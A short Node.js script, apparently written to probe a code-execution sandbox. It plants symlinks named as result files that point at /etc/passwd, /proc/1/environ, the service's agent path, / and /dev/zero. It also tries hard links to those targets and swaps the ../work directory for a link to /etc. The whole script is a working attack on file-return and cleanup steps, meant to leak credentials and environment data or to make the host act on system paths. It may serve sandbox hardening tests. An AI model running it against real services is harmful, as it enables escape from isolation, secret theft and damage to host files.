// Plants links where files are given back and where the slot is cleaned.
const fs = require('fs');
['/etc/passwd', '/proc/1/environ', '/execman/agent', '/etc', '/', '/w', '..', 'ring', '/dev/zero'].forEach((target, i) => {
  fs.symlinkSync(target, 'result-' + i);
  try {
    fs.linkSync(target, 'hard');
    console.log('breach: a hard link to', target);
  } catch {}
});
fs.symlinkSync('/w', '../tmp/link');
console.log('held');
fs.renameSync('../work', '../was');
fs.symlinkSync('/etc', '../work');
